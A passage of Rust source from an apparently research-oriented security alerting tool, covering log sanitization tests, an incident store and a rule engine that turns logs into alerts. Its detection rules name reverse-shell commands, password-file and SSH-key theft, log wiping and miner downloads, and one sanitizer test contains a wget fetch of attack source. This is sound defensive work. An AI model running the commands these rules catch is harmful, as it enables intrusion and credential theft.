fn has_digit_run(input: &str, min_len: usize) -> bool {
    let mut run = 0;
    for b in input.bytes() {
        if b.is_ascii_digit() {
            run += 1;
            if run >= min_len {
                return true;
            }
        } else {
            run = 0;
        }
    }
    false
}

fn mask_digit_runs(input: &str, min_len: usize) -> String {
    let bytes = input.as_bytes();
    let mut out = String::with_capacity(input.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i].is_ascii_digit() {
            let mut j = i;
            while j < bytes.len() && bytes[j].is_ascii_digit() {
                j += 1;
            }
            if j - i >= min_len {
                out.push_str("<num>");
            } else {
                out.push_str(&input[i..j]);
            }
            i = j;
        } else {
            out.push(bytes[i] as char);
            i += 1;
        }
    }
    out
}

fn mask_home_dirs(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let mut rest = input;
    while let Some(pos) = rest.find("/home/") {
        let after = &rest[pos + 6..];
        let name_len = after
            .char_indices()
            .find(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '_' || *c == '-'))
            .map(|(i, _)| i)
            .unwrap_or(after.len());
        if name_len > 0 {
            out.push_str(&rest[..pos]);
            out.push_str("/home/<user>");
            rest = &after[name_len..];
        } else {
            out.push_str(&rest[..pos + 6]);
            rest = after;
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scrub(s: &str) -> String {
        sanitize(&SanitizeConfig::default(), s)
    }

    #[test]
    fn ip_masking_matches_paper_format() {
        assert_eq!(scrub("wget 64.215.4.5/abs.c"), "wget 64.215.xxx.yyy/abs.c");
        assert_eq!(
            scrub("from 111.200.8.77 connecting"),
            "from 111.200.xxx.yyy connecting"
        );
    }

    #[test]
    fn non_ips_left_alone() {
        assert_eq!(scrub("version 1.2.3"), "version 1.2.3");
        assert_eq!(scrub("300.1.1.1"), "300.1.1.1"); // 300 is not an octet
        assert_eq!(scrub("1.2.3.4.5"), "1.2.3.4.5"); // five components: not IPv4
    }

    #[test]
    fn timestamp_kept() {
        // §II-A: "the log timestamp is kept". Short digit runs survive.
        assert_eq!(scrub("23:15:22 event"), "23:15:22 event");
    }

    #[test]
    fn email_masked() {
        assert_eq!(
            scrub("contact alice.b@example.edu now"),
            "contact <email> now"
        );
        assert_eq!(scrub("no at sign here"), "no at sign here");
        assert_eq!(scrub("not@nodots"), "not@nodots");
    }

    #[test]
    fn long_digit_runs_masked() {
        assert_eq!(scrub("ssn 123456789 leaked"), "ssn <num> leaked");
        assert_eq!(scrub("pid 7036 ok"), "pid 7036 ok");
    }

    #[test]
    fn home_dirs_masked() {
        assert_eq!(scrub("/home/alice/.ssh/id_rsa"), "/home/<user>/.ssh/id_rsa");
        assert_eq!(scrub("cat /home/bob-2/notes"), "cat /home/<user>/notes");
    }

    #[test]
    fn pii_detection() {
        assert!(contains_pii("user=x@y.com"));
        assert!(contains_pii("card 4111111111111111"));
        assert!(!contains_pii("GET /index.html"));
    }

    #[test]
    fn config_toggles() {
        let cfg = SanitizeConfig {
            mask_ips: false,
            ..Default::default()
        };
        assert_eq!(sanitize(&cfg, "64.215.4.5"), "64.215.4.5");
        let cfg = SanitizeConfig {
            mask_digit_runs: 0,
            ..Default::default()
        };
        assert_eq!(sanitize(&cfg, "123456789"), "123456789");
    }
}
