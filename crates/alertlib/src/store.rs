//! Incident storage.
//!
//! An [`Incident`] bundles a forensically examined attack: the ground truth
//! report, the attack family, the year, and the alert sequence directly
//! related to the attack — the unit of the paper's 200+ incident corpus
//! (Table I). The [`IncidentStore`] is the longitudinal dataset.

use std::fmt;

use serde::{Deserialize, Serialize};
use simnet::rng::FxHashSet;
use simnet::time::SimTime;

use crate::alert::Alert;
use crate::annotate::GroundTruth;
use crate::taxonomy::AlertKind;

/// Incident identifier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct IncidentId(pub u32);

impl fmt::Display for IncidentId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "INC-{:04}", self.0)
    }
}

/// One security incident.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Incident {
    pub id: IncidentId,
    /// Attack family label (e.g. "ransomware", "ssh-keylogger").
    pub family: String,
    /// Calendar year the incident occurred.
    pub year: i32,
    /// The human-written report's ground truth.
    pub report: GroundTruth,
    /// Time-ordered alerts directly related to the attack.
    pub alerts: Vec<Alert>,
}

impl Incident {
    pub fn new(id: IncidentId, family: impl Into<String>, year: i32) -> Incident {
        Incident {
            id,
            family: family.into(),
            year,
            report: GroundTruth::default(),
            alerts: Vec::new(),
        }
    }

    /// Append an alert; alerts must be pushed in time order.
    pub fn push_alert(&mut self, alert: Alert) {
        debug_assert!(
            self.alerts.last().is_none_or(|last| last.ts <= alert.ts),
            "alerts must be time-ordered"
        );
        self.alerts.push(alert);
    }

    /// The set of distinct alert kinds (for Jaccard similarity, Fig. 3a).
    pub fn kind_set(&self) -> FxHashSet<AlertKind> {
        self.alerts.iter().map(|a| a.kind).collect()
    }

    /// The alert-kind sequence in time order (for LCS mining, Fig. 3b).
    pub fn kind_sequence(&self) -> Vec<AlertKind> {
        self.alerts.iter().map(|a| a.kind).collect()
    }

    /// Timestamp of the first alert.
    pub fn start_ts(&self) -> Option<SimTime> {
        self.alerts.first().map(|a| a.ts)
    }

    /// Timestamp of the first *critical* alert — the moment damage becomes
    /// irreversible (Insight 4). Preemption must beat this instant.
    pub fn first_damage_ts(&self) -> Option<SimTime> {
        self.alerts.iter().find(|a| a.is_critical()).map(|a| a.ts)
    }

    /// Number of alerts before the first critical alert (the preemption
    /// budget; Insight 2's "two to four alerts" window).
    pub fn preemption_budget(&self) -> usize {
        self.alerts.iter().take_while(|a| !a.is_critical()).count()
    }

    /// Whether the given kind subsequence occurs (in order, possibly with
    /// gaps) in this incident's alert sequence.
    pub fn contains_subsequence(&self, pattern: &[AlertKind]) -> bool {
        let mut it = pattern.iter();
        let mut next = it.next();
        for a in &self.alerts {
            match next {
                Some(&k) if a.kind == k => next = it.next(),
                Some(_) => {}
                None => break,
            }
        }
        next.is_none()
    }

    pub fn len(&self) -> usize {
        self.alerts.len()
    }

    pub fn is_empty(&self) -> bool {
        self.alerts.is_empty()
    }
}

/// The longitudinal incident corpus.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct IncidentStore {
    incidents: Vec<Incident>,
}

impl IncidentStore {
    pub fn new() -> Self {
        Self::default()
    }

    /// Add an incident, returning its id.
    pub fn add(&mut self, mut incident: Incident) -> IncidentId {
        let id = IncidentId(self.incidents.len() as u32);
        incident.id = id;
        self.incidents.push(incident);
        id
    }

    pub fn get(&self, id: IncidentId) -> Option<&Incident> {
        self.incidents.get(id.0 as usize)
    }

    pub fn iter(&self) -> impl Iterator<Item = &Incident> {
        self.incidents.iter()
    }

    pub fn len(&self) -> usize {
        self.incidents.len()
    }

    pub fn is_empty(&self) -> bool {
        self.incidents.is_empty()
    }

    /// Incidents in a year range (inclusive).
    pub fn by_years(&self, from: i32, to: i32) -> impl Iterator<Item = &Incident> {
        self.incidents
            .iter()
            .filter(move |i| i.year >= from && i.year <= to)
    }

    /// Total alerts across all incidents.
    pub fn total_alerts(&self) -> usize {
        self.incidents.iter().map(Incident::len).sum()
    }

    /// Distinct attack family names.
    pub fn families(&self) -> Vec<&str> {
        let mut fams: Vec<&str> = self.incidents.iter().map(|i| i.family.as_str()).collect();
        fams.sort_unstable();
        fams.dedup();
        fams
    }

    /// Fraction of incidents containing the given kind subsequence — used
    /// for the "60.08% of incidents contain S1" claim (experiment E6).
    pub fn subsequence_support(&self, pattern: &[AlertKind]) -> f64 {
        if self.incidents.is_empty() {
            return 0.0;
        }
        let hits = self
            .incidents
            .iter()
            .filter(|i| i.contains_subsequence(pattern))
            .count();
        hits as f64 / self.incidents.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::alert::Entity;

    fn alert(t: u64, kind: AlertKind) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User("eve".into()))
    }

    fn s1_incident(year: i32) -> Incident {
        let mut inc = Incident::new(IncidentId(0), "rootkit", year);
        inc.push_alert(alert(10, AlertKind::DownloadSensitive));
        inc.push_alert(alert(20, AlertKind::CompileKernelModule));
        inc.push_alert(alert(30, AlertKind::LogWipe));
        inc.push_alert(alert(40, AlertKind::PrivilegeEscalation));
        inc
    }

    #[test]
    fn kind_set_and_sequence() {
        let inc = s1_incident(2002);
        assert_eq!(inc.len(), 4);
        assert_eq!(inc.kind_set().len(), 4);
        assert_eq!(
            inc.kind_sequence(),
            vec![
                AlertKind::DownloadSensitive,
                AlertKind::CompileKernelModule,
                AlertKind::LogWipe,
                AlertKind::PrivilegeEscalation
            ]
        );
    }

    #[test]
    fn damage_timing_and_budget() {
        let inc = s1_incident(2002);
        assert_eq!(inc.first_damage_ts(), Some(SimTime::from_secs(40)));
        assert_eq!(inc.preemption_budget(), 3);
        assert_eq!(inc.start_ts(), Some(SimTime::from_secs(10)));
    }

    #[test]
    fn subsequence_containment() {
        let inc = s1_incident(2002);
        assert!(inc.contains_subsequence(&[
            AlertKind::DownloadSensitive,
            AlertKind::CompileKernelModule,
            AlertKind::LogWipe
        ]));
        // With a gap.
        assert!(inc.contains_subsequence(&[AlertKind::DownloadSensitive, AlertKind::LogWipe]));
        // Wrong order.
        assert!(!inc.contains_subsequence(&[AlertKind::LogWipe, AlertKind::DownloadSensitive]));
        // Empty pattern trivially contained.
        assert!(inc.contains_subsequence(&[]));
    }

    #[test]
    fn store_queries() {
        let mut store = IncidentStore::new();
        store.add(s1_incident(2002));
        store.add(s1_incident(2024));
        let mut other = Incident::new(IncidentId(0), "sqli", 2010);
        other.push_alert(alert(5, AlertKind::SqlInjectionProbe));
        store.add(other);
        assert_eq!(store.len(), 3);
        assert_eq!(store.total_alerts(), 9);
        assert_eq!(store.by_years(2000, 2005).count(), 1);
        assert_eq!(store.families(), vec!["rootkit", "sqli"]);
        let support = store.subsequence_support(&[
            AlertKind::DownloadSensitive,
            AlertKind::CompileKernelModule,
            AlertKind::LogWipe,
        ]);
        assert!((support - 2.0 / 3.0).abs() < 1e-9);
    }

    #[test]
    fn ids_reassigned_on_add() {
        let mut store = IncidentStore::new();
        let id0 = store.add(s1_incident(2002));
        let id1 = store.add(s1_incident(2003));
        assert_eq!(id0, IncidentId(0));
        assert_eq!(id1, IncidentId(1));
        assert_eq!(store.get(id1).unwrap().year, 2003);
        assert!(store.get(IncidentId(99)).is_none());
    }
}
