//! Symbolization: raw log records → alerts.
//!
//! §II-A: *"each log message is assigned a symbolic name indicating the
//! attacker's intention ... For example, the raw log `23:15:22
//! [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK" [7036]` ... is
//! represented by a symbol `alert_download_sensitive` and metadata."*
//!
//! The [`Symbolizer`] is a deterministic rule engine: for each record kind
//! it applies an ordered list of wildcard-pattern rules and emits zero or
//! more [`Alert`]s with sanitized messages and provenance metadata.

use std::net::Ipv4Addr;

use simnet::addr::Cidr;
use simnet::flow::{Direction, Proto, Service};
use simnet::rng::FxHashSet;
use telemetry::record::{
    ConnRecord, DbRecord, HttpRecord, LogRecord, NoticeKind, NoticeRecord, ProcessRecord, SshRecord,
};

use simnet::intern::{Sym, SymScope};
use simnet::rng::FxHashMap;

use crate::alert::{Alert, Entity};
use crate::message::MessageSpec;
use crate::pattern::{matches_any, Pattern};
use crate::sanitize::{contains_pii, SanitizeConfig};
use crate::taxonomy::AlertKind;

/// Configuration for the symbolization rules.
#[derive(Debug, Clone)]
pub struct SymbolizerConfig {
    /// Honeypot ghost accounts planted in the identity provider (§IV-B).
    pub ghost_accounts: Vec<String>,
    /// Default/advertised database accounts (§IV-B "default 'admin'
    /// password").
    pub default_db_users: Vec<String>,
    /// Known command-and-control endpoints (threat intel feed).
    pub c2_addresses: FxHashSet<Ipv4Addr>,
    /// URI patterns present in the malware database.
    pub malware_uri_patterns: Vec<Pattern>,
    /// Internal networks, for direction checks on app-layer records.
    pub internal_nets: Vec<Cidr>,
    /// Outbound byte count that counts as anomalous volume.
    pub anomalous_bytes: u64,
    /// Outbound byte count that counts as confirmed exfiltration (critical).
    pub exfil_bytes: u64,
    /// Inclusive local-hour range flagged as unusual login time.
    pub odd_hours: (u32, u32),
    /// Message sanitization settings. Alerts carry lazily rendered
    /// [`MessageSpec`]s, so this policy applies when a message is
    /// *surfaced*: render through [`Symbolizer::render_message`] (or
    /// `MessageSpec::render_with(&cfg.sanitize)`) to honour it. The
    /// plain `MessageSpec::render` / `Display` path uses
    /// [`SanitizeConfig::default`].
    pub sanitize: SanitizeConfig,
}

impl Default for SymbolizerConfig {
    fn default() -> Self {
        SymbolizerConfig {
            ghost_accounts: vec!["svcbackup".into(), "gridftp".into()],
            default_db_users: vec!["postgres".into(), "admin".into()],
            c2_addresses: FxHashSet::default(),
            malware_uri_patterns: vec![
                Pattern::new("*/ldr.sh*"),
                Pattern::new("*/sys.x86_64*"),
                Pattern::new("*/kinsing*"),
                Pattern::new("*/xmrig*"),
            ],
            internal_nets: vec![
                simnet::addr::ncsa_production(),
                simnet::addr::ncsa_secondary(),
            ],
            anomalous_bytes: 512 * 1024 * 1024,
            exfil_bytes: 8 * 1024 * 1024 * 1024,
            odd_hours: (0, 4),
            sanitize: SanitizeConfig::default(),
        }
    }
}

/// Ordered process-cmdline rules: first match wins.
fn exec_rules() -> &'static [(&'static [&'static str], AlertKind)] {
    &[
        (
            &["*base64 -d*", "*base64 --decode*"],
            AlertKind::Base64DecodeExec,
        ),
        (&["insmod *", "*modprobe *"], AlertKind::KernelModuleLoaded),
        (
            &["make -C /lib/modules*", "*make*modules*", "*kbuild*"],
            AlertKind::CompileKernelModule,
        ),
        (
            &[
                "wget *.c*",
                "wget *.sh*",
                "wget *.x86_64*",
                "curl *.c*",
                "curl *.sh*",
            ],
            AlertKind::DownloadSensitive,
        ),
        (
            &[
                "find * id_rsa*",
                "find * -name *id_rsa*",
                "*grep *IdentityFile*",
            ],
            AlertKind::SshKeyEnumeration,
        ),
        (&["*known_hosts*"], AlertKind::KnownHostsEnumeration),
        (&["*bash_history*"], AlertKind::BashHistoryAccess),
        (
            &["*/etc/shadow*", "*/etc/passwd*"],
            AlertKind::PasswordFileAccess,
        ),
        (
            &["*nc -e*", "*bash -i >&*", "*sh -i >&*"],
            AlertKind::ReverseShellPattern,
        ),
        (
            &["*xmrig*", "*minerd*", "*kdevtmpfsi*"],
            AlertKind::CryptominerDeployed,
        ),
        (
            &["ssh -oStrictHostKeyChecking=no*", "*-oBatchMode=yes*"],
            AlertKind::LateralMovementAttempt,
        ),
        (
            &[
                "echo 0>/var/log/*",
                "echo 0>/var/spool/mail/*",
                "shred */var/log/*",
            ],
            AlertKind::LogWipe,
        ),
        (&["history -c*"], AlertKind::HistoryCleared),
        (&["touch -t *", "touch -r *"], AlertKind::TimestampTampering),
        (&["crontab *"], AlertKind::CronEntryAdded),
        (
            &["systemctl enable *", "chkconfig * on*"],
            AlertKind::NewServiceInstall,
        ),
        (&["gcc *", "cc *", "make *"], AlertKind::CompileSource),
    ]
}

/// The symbolization engine.
///
/// Interning makes the rule engine memoizable: a process record's verdict
/// depends only on its (interned) command line, and a custom notice's
/// alert kind only on its (interned) symbol — so both are cached by `Sym`
/// and the glob/string matching runs once per *distinct* value instead of
/// once per record. Steady state, `symbolize_into` performs zero heap
/// allocations.
///
/// Every symbolizer operates in one [`SymScope`]: incoming records' symbols
/// are resolved against it and the interned config sets are minted into it,
/// so a tenant pipeline built over a tenant scope never touches the global
/// table. The verdict memos are keyed by `(scope id, sym)` — scope ids are
/// never reused, so a `Sym` from an evicted-and-recreated tenant scope that
/// happens to collide with an old id can never resurrect a stale verdict
/// (see [`Symbolizer::set_scope`]).
#[derive(Debug, Clone)]
pub struct Symbolizer {
    cfg: SymbolizerConfig,
    scope: SymScope,
    alerts_emitted: u64,
    /// Interned ghost-account set (from `cfg.ghost_accounts`).
    ghost_users: simnet::rng::FxHashSet<Sym>,
    /// Interned default-DB-account set (from `cfg.default_db_users`).
    default_db_users: simnet::rng::FxHashSet<Sym>,
    /// Memoized first-match verdict of [`exec_rules`] per command line,
    /// keyed by the minting scope.
    exec_memo: FxHashMap<(u32, Sym), Option<AlertKind>>,
    /// Memoized [`AlertKind::from_symbol`] per custom notice symbol,
    /// keyed by the minting scope.
    notice_memo: FxHashMap<(u32, Sym), Option<AlertKind>>,
}

impl Symbolizer {
    /// A symbolizer over the global scope.
    pub fn new(cfg: SymbolizerConfig) -> Self {
        Self::new_in(cfg, SymScope::global())
    }

    /// A symbolizer over an explicit scope — what a tenant pipeline uses
    /// so its records, config sets and alerts all live in the tenant's
    /// symbol universe.
    pub fn new_in(cfg: SymbolizerConfig, scope: SymScope) -> Self {
        let ghost_users = cfg.ghost_accounts.iter().map(|s| scope.sym(s)).collect();
        let default_db_users = cfg.default_db_users.iter().map(|s| scope.sym(s)).collect();
        Symbolizer {
            cfg,
            scope,
            alerts_emitted: 0,
            ghost_users,
            default_db_users,
            exec_memo: FxHashMap::default(),
            notice_memo: FxHashMap::default(),
        }
    }

    pub fn with_defaults() -> Self {
        Self::new(SymbolizerConfig::default())
    }

    pub fn config(&self) -> &SymbolizerConfig {
        &self.cfg
    }

    /// The scope this symbolizer resolves records against.
    pub fn scope(&self) -> &SymScope {
        &self.scope
    }

    /// Re-point the symbolizer at a different scope (e.g. a tenant slot
    /// that was evicted and recreated), re-interning the config sets
    /// there. Memoized verdicts for the old scope stay in the map but are
    /// unreachable by construction: memo keys carry the scope id and
    /// scope ids are never reused, so a recycled 32-bit `Sym` id from the
    /// new scope cannot alias an old verdict.
    pub fn set_scope(&mut self, scope: SymScope) {
        self.ghost_users = self
            .cfg
            .ghost_accounts
            .iter()
            .map(|s| scope.sym(s))
            .collect();
        self.default_db_users = self
            .cfg
            .default_db_users
            .iter()
            .map(|s| scope.sym(s))
            .collect();
        self.scope = scope;
    }

    pub fn alerts_emitted(&self) -> u64 {
        self.alerts_emitted
    }

    /// Render an alert message under this symbolizer's sanitize policy
    /// (`cfg.sanitize`) — the §II-A scrubbing the eager-string pipeline
    /// applied at emission time now happens here, at surfacing time.
    pub fn render_message(&self, msg: &MessageSpec) -> String {
        msg.render_with_in(&self.cfg.sanitize, &self.scope)
    }

    fn is_internal(&self, addr: Ipv4Addr) -> bool {
        self.cfg.internal_nets.iter().any(|n| n.contains(addr))
    }

    /// Symbolize one record, appending alerts to `out`. Returns the number
    /// of alerts produced.
    pub fn symbolize_into(&mut self, r: &LogRecord, out: &mut Vec<Alert>) -> usize {
        let before = out.len();
        match r {
            LogRecord::Conn(c) => self.on_conn(c, out),
            LogRecord::Http(h) => self.on_http(h, out),
            LogRecord::Ssh(s) => self.on_ssh(s, out),
            LogRecord::Notice(n) => self.on_notice(n, out),
            LogRecord::Process(p) => self.on_process(p, out),
            LogRecord::File(f) => self.on_file(f, out),
            LogRecord::Db(d) => self.on_db(d, out),
            LogRecord::Auth(_) => {
                // SSH auth alerts are derived from the Zeek ssh stream; the
                // host auth log is corroboration, not a second alert source.
            }
            LogRecord::Audit(a) => self.on_audit(a, out),
        }
        let produced = out.len() - before;
        self.alerts_emitted += produced as u64;
        produced
    }

    /// Convenience wrapper returning a fresh vector.
    pub fn symbolize(&mut self, r: &LogRecord) -> Vec<Alert> {
        let mut out = Vec::new();
        self.symbolize_into(r, &mut out);
        out
    }

    fn on_conn(&self, c: &ConnRecord, out: &mut Vec<Alert>) {
        let entity = Entity::Address(c.orig_h);
        if c.conn_state.probe_like() {
            let kind = match c.direction {
                Direction::Outbound => AlertKind::OutboundScanning,
                _ if c.resp_p == Service::Postgres.default_port() => AlertKind::RepeatedProbeDb,
                _ => AlertKind::PortScan,
            };
            out.push(
                Alert::new(c.ts, kind, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::Probe {
                        proto: c.proto,
                        resp_h: c.resp_h,
                        resp_p: c.resp_p,
                        state: c.conn_state,
                    }),
            );
            return;
        }
        if !c.conn_state.established() {
            return;
        }
        if self.cfg.c2_addresses.contains(&c.resp_h) {
            out.push(
                Alert::new(c.ts, AlertKind::C2Communication, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::C2Beacon {
                        resp_h: c.resp_h,
                        resp_p: c.resp_p,
                    }),
            );
        }
        if c.service == Service::Irc {
            out.push(
                Alert::new(c.ts, AlertKind::IrcConnection, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::Static("irc connection")),
            );
        }
        if matches!(c.resp_p, 9001 | 9030) {
            out.push(
                Alert::new(c.ts, AlertKind::TorConnection, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::Static("tor relay connection")),
            );
        }
        if c.proto == Proto::Icmp && c.orig_bytes > 64 * 1024 {
            out.push(
                Alert::new(c.ts, AlertKind::IcmpTunnelSuspected, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::IcmpVolume {
                        bytes: c.orig_bytes,
                    }),
            );
        }
        if c.service == Service::Dns && c.orig_bytes > 1024 * 1024 {
            out.push(
                Alert::new(c.ts, AlertKind::DnsTunnelSuspected, entity)
                    .with_src(c.orig_h)
                    .with_dst(c.resp_h)
                    .with_message(MessageSpec::DnsVolume {
                        bytes: c.orig_bytes,
                    }),
            );
        }
        if c.direction == Direction::Outbound {
            if c.orig_bytes >= self.cfg.exfil_bytes {
                out.push(
                    Alert::new(c.ts, AlertKind::DataExfiltration, entity)
                        .with_src(c.orig_h)
                        .with_dst(c.resp_h)
                        .with_message(MessageSpec::OutboundVolume {
                            bytes: c.orig_bytes,
                        }),
                );
            } else if c.orig_bytes >= self.cfg.anomalous_bytes {
                out.push(
                    Alert::new(c.ts, AlertKind::AnomalousDataVolume, entity)
                        .with_src(c.orig_h)
                        .with_dst(c.resp_h)
                        .with_message(MessageSpec::OutboundVolume {
                            bytes: c.orig_bytes,
                        }),
                );
            }
        }
    }

    fn on_http(&self, h: &HttpRecord, out: &mut Vec<Alert>) {
        let entity = Entity::Address(h.orig_h);
        let line = MessageSpec::HttpLine {
            method: h.method,
            host: h.host,
            uri: h.uri,
            status: h.status,
        };
        let uri = self.scope.resolve(h.uri);
        if matches_any(&self.cfg.malware_uri_patterns, uri) {
            out.push(
                Alert::new(h.ts, AlertKind::KnownMalwareDownload, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
            return;
        }
        let source_ext = [".c", ".sh", ".pl", ".py"].iter().any(|e| uri.ends_with(e));
        let binary_mime = matches!(
            self.scope.resolve(h.mime),
            "application/x-executable" | "application/x-elf"
        );
        if source_ext && h.status == 200 {
            // Source fetched over plaintext HTTP: step 1 of the S1 pattern.
            out.push(
                Alert::new(h.ts, AlertKind::DownloadSensitive, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        } else if binary_mime && h.status == 200 {
            out.push(
                Alert::new(h.ts, AlertKind::DownloadBinaryUnknown, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
        if crate::pattern::glob_match("*' OR *", uri)
            || crate::pattern::glob_match("*UNION SELECT*", uri)
        {
            out.push(
                Alert::new(h.ts, AlertKind::SqlInjectionProbe, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
        if crate::pattern::glob_match("*.action*", uri) {
            // Apache Struts portal scan (Insight 3's example).
            out.push(
                Alert::new(h.ts, AlertKind::VulnScan, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
        if self.is_internal(h.orig_h) && !self.is_internal(h.resp_h) && contains_pii(uri) {
            // Critical: personally identifiable information leaving in an
            // outgoing HTTP request (Insight 4's example).
            out.push(
                Alert::new(h.ts, AlertKind::PiiInOutboundHttp, entity)
                    .with_src(h.orig_h)
                    .with_dst(h.resp_h)
                    .with_message(line),
            );
        }
    }

    fn on_ssh(&self, s: &SshRecord, out: &mut Vec<Alert>) {
        let entity = Entity::User(s.user);
        if !s.success {
            out.push(
                Alert::new(s.ts, AlertKind::LoginFailed, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::SshFailed { orig_h: s.orig_h }),
            );
            return;
        }
        let mut flagged = false;
        if self.ghost_users.contains(&s.user) {
            flagged = true;
            out.push(
                Alert::new(s.ts, AlertKind::GhostAccountLogin, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::GhostLogin { user: s.user }),
            );
        }
        if s.direction == Direction::Internal {
            flagged = true;
            out.push(
                Alert::new(s.ts, AlertKind::InternalPivotLogin, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::InternalSsh {
                        orig_h: s.orig_h,
                        resp_h: s.resp_h,
                    }),
            );
        }
        let hour = s.ts.time_of_day().0;
        if hour >= self.cfg.odd_hours.0 && hour <= self.cfg.odd_hours.1 {
            flagged = true;
            out.push(
                Alert::new(s.ts, AlertKind::LoginUnusualHour, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::LoginAtHour { hour }),
            );
        }
        if !flagged {
            out.push(
                Alert::new(s.ts, AlertKind::LoginSuccess, entity)
                    .with_src(s.orig_h)
                    .with_dst(s.resp_h)
                    .with_message(MessageSpec::Static("ssh login")),
            );
        }
    }

    fn on_notice(&mut self, n: &NoticeRecord, out: &mut Vec<Alert>) {
        let entity = Entity::Address(n.src);
        let kind = match &n.note {
            NoticeKind::AddressScan => Some(AlertKind::AddressSweep),
            NoticeKind::PortScan => Some(AlertKind::PortScan),
            NoticeKind::PasswordGuessing => Some(AlertKind::BruteForcePassword),
            NoticeKind::ExecutableFromRawIp => Some(AlertKind::DownloadSensitive),
            NoticeKind::Custom(sym) => {
                let scope = &self.scope;
                *self
                    .notice_memo
                    .entry((scope.scope_id(), *sym))
                    .or_insert_with(|| AlertKind::from_symbol(scope.resolve(*sym)))
            }
        };
        if let Some(kind) = kind {
            let mut a = Alert::new(n.ts, kind, entity)
                .with_src(n.src)
                .with_message(MessageSpec::Text(n.msg));
            if let Some(d) = n.dst {
                a = a.with_dst(d);
            }
            out.push(a);
        }
    }

    fn on_process(&mut self, p: &ProcessRecord, out: &mut Vec<Alert>) {
        // The verdict depends only on the command line, so the ordered
        // glob scan runs once per distinct `cmdline` symbol per scope.
        let scope = &self.scope;
        let kind = *self
            .exec_memo
            .entry((scope.scope_id(), p.cmdline))
            .or_insert_with(|| {
                let cmdline = scope.resolve(p.cmdline);
                exec_rules()
                    .iter()
                    .find(|(patterns, _)| {
                        patterns
                            .iter()
                            .any(|pat| crate::pattern::glob_match(pat, cmdline))
                    })
                    .map(|(_, kind)| *kind)
            });
        if let Some(kind) = kind {
            out.push(
                Alert::new(p.ts, kind, Entity::User(p.user))
                    .with_host(p.host)
                    .with_message(MessageSpec::Exec {
                        hostname: p.hostname,
                        cmdline: p.cmdline,
                    }),
            );
        }
    }

    fn on_file(&self, f: &telemetry::record::FileRecord, out: &mut Vec<Alert>) {
        use simnet::action::FileOp;
        let entity = Entity::User(f.user);
        let push = |out: &mut Vec<Alert>, kind: AlertKind, msg: MessageSpec| {
            out.push(
                Alert::new(f.ts, kind, entity)
                    .with_host(f.host)
                    .with_message(msg),
            );
        };
        let verb = |verb, path| MessageSpec::FileOp { verb, path };
        let path = self.scope.resolve(f.path);
        let deleting = matches!(f.op, FileOp::Delete | FileOp::Truncate);
        if deleting
            && (crate::pattern::glob_match("/var/log/*", path)
                || crate::pattern::glob_match("/var/spool/mail/*", path))
        {
            push(out, AlertKind::LogWipe, verb("wipe", f.path));
        } else if deleting && path.ends_with(".bash_history") {
            push(out, AlertKind::HistoryCleared, verb("clear", f.path));
        } else if f.op == FileOp::Create && crate::pattern::glob_match("/tmp/*", path) {
            push(
                out,
                AlertKind::FileDropTmp,
                MessageSpec::FileDrop {
                    path: f.path,
                    process: f.process,
                },
            );
        } else if matches!(f.op, FileOp::Create | FileOp::Modify)
            && path.ends_with(".ssh/authorized_keys")
        {
            push(
                out,
                AlertKind::SshAuthorizedKeyAdded,
                verb("modify", f.path),
            );
        } else if f.op == FileOp::Create
            && (crate::pattern::glob_match("*RANSOM*", path)
                || crate::pattern::glob_match("*ransom*", path))
        {
            push(out, AlertKind::RansomNoteDropped, verb("note", f.path));
        } else if f.op == FileOp::Create && path.ends_with(".encrypted") {
            push(out, AlertKind::MassFileEncryption, verb("encrypt", f.path));
        } else if crate::pattern::glob_match("/etc/cron*", path) {
            push(out, AlertKind::CronEntryAdded, verb("cron", f.path));
        }
    }

    fn on_db(&self, d: &DbRecord, out: &mut Vec<Alert>) {
        use simnet::action::DbCommandKind;
        let entity = Entity::User(d.user);
        let mut push = |kind: AlertKind, msg: MessageSpec| {
            let mut a = Alert::new(d.ts, kind, entity)
                .with_src(d.orig_h)
                .with_dst(d.resp_h)
                .with_message(msg);
            if let Some(h) = d.host {
                a = a.with_host(h);
            }
            out.push(a);
        };
        match &d.command {
            DbCommandKind::Auth { success } => {
                if *success && self.default_db_users.contains(&d.user) {
                    push(
                        AlertKind::DefaultCredentialUse,
                        MessageSpec::DbDefaultCred { user: d.user },
                    );
                } else if !success {
                    push(
                        AlertKind::LoginFailed,
                        MessageSpec::DbAuthFailed { user: d.user },
                    );
                }
            }
            DbCommandKind::ShowVersion => {
                push(AlertKind::DbVersionRecon, MessageSpec::Text(d.statement));
            }
